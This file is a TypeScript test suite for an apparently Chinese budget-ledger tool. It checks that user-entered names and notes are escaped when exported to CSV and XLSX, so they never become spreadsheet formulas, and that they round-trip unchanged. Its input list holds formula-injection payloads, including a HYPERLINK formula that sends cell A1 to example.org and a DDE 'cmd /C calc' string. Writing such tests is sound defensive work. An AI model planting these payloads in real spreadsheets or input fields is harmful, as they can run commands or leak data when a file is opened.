/** No text that was entered becomes a formula in anything that people open in a spreadsheet; and none is changed by that. */
import { fileURLToPath } from 'node:url'
import { type Budget, printBudget, readBudget } from '@gouji/budget'
import { readSheets } from '@gouji/files'
import { loadKnowledge } from '@gouji/knowledge'
import { openBudgetFolder, readWorkbook } from '@gouji/publish'
import { csvBytes, printWorkbook } from '@gouji/write'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { workbook } from '../../packages/cli/src/formats/workbook.ts'
import { csvText } from '../../packages/web/src/parts/csv.ts'

/** What somebody enters as the name of a unit or a project, or as a note. */
const ENTERED = [
  '=HYPERLINK("http://example.org/?"&A1,"看")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*2',
  '＝1+1',
  '＋1+1',
  '－1－1',
  '＠某',
  "'=1+1",
  "''",
  '_x003D_1+1',
  '_x005F_x0041_',
]
/** Trimmed where they are entered, but a program may write them. */
const WRITTEN = [...ENTERED, '\t=1+1', '\r=1+1', '\n=1+1']
const NUMBERS = ['-12.30', '-1,234.50', '+5', '-5.2%']

/** What a spreadsheet takes a field for, once the quotes of the CSV are gone. */
const isFormula = (field: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(field) && !NUMBERS.includes(field)

const fieldsOf = (csv: string): string[] =>
  [...csv.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"|([^,"\r\n]+)/g)].map(([, quoted, bare]) =>
    (quoted ?? bare ?? '').replaceAll('""', '"'),
  )

describe('lists as CSV', () => {
  const rows = [...WRITTEN, ...NUMBERS].map((text) => [text, '甲'])
  it.each([
    ['of the pages', csvText(rows)],
    ['of open data and corrections', new TextDecoder().decode(csvBytes(['名称', '单位'], rows))],
  ])('%s hold no formula, and numbers as they are', (_, csv) => {
    const fields = fieldsOf(csv)
    expect(fields.filter(isFormula)).toEqual([])
    expect(fields).toEqual(expect.arrayContaining(NUMBERS))
    expect(fields).toHaveLength(rows.length * 2 + (csv.includes('名称') ? 2 : 0))
  })
})

const knowledge = loadKnowledge()
const EXAMPLE = fileURLToPath(new URL('../../examples/ledgers/archive-centre-2025', import.meta.url))
const sample = (await openBudgetFolder(EXAMPLE, knowledge)).budget!
const entered: Budget = {
  ...sample,
  units: sample.units.map((unit, i) => ({ ...unit, name: `${ENTERED[i % ENTERED.length]}${i}` })),
  lines: sample.lines.map((line, i) => ({ ...line, note: ENTERED[i % ENTERED.length]! })),
  tasks: sample.tasks.map((task, i) => ({ ...task, content: ENTERED[i % ENTERED.length]! })),
}

it('a ledger in a workbook holds them as texts, and gives them back', () => {
  const bytes = printWorkbook(entered, knowledge)
  const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'))
  const formulas = sheets.flatMap(([, xml]) => [...strFromU8(xml).matchAll(/<f>([^<]*)<\/f>/g)].map(([, f]) => f!))
  expect(formulas.filter((formula) => /HYPERLINK|cmd|1\+1/.test(formula))).toEqual([])
  expect(printBudget(readWorkbook(bytes, 'a.xlsx', knowledge).partial!)).toEqual(printBudget(entered))
})

it('a ledger as a folder of CSV holds no formula, and gives them back', () => {
  const files = printBudget(entered)
  const csv = [...files].filter(([name]) => name.endsWith('.csv')).flatMap(([, text]) => fieldsOf(text))
  expect(csv.filter(isFormula)).toEqual([])
  expect(csv.some((field) => field.includes('HYPERLINK'))).toBe(true)
  expect(printBudget(readBudget(files, knowledge).partial!)).toEqual(files)
})

it('a list of findings as a workbook holds them as texts', () => {
  const rows = WRITTEN.map((text) => [{ text, style: 'text' as const }])
  const bytes = workbook([{ name: '问题', columns: [{ heading: '名称', width: 10 }], rows }])
  const [sheet] = readSheets(bytes, 'a.xlsx')
  expect(strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!)).not.toContain('<f>')
  expect(sheet!.rows.slice(1).map(({ cells }) => cells.get(0)!.replace(/\r/g, '\n'))).toEqual(
    WRITTEN.map((text) => text.replace(/\r/g, '\n')),
  )
})
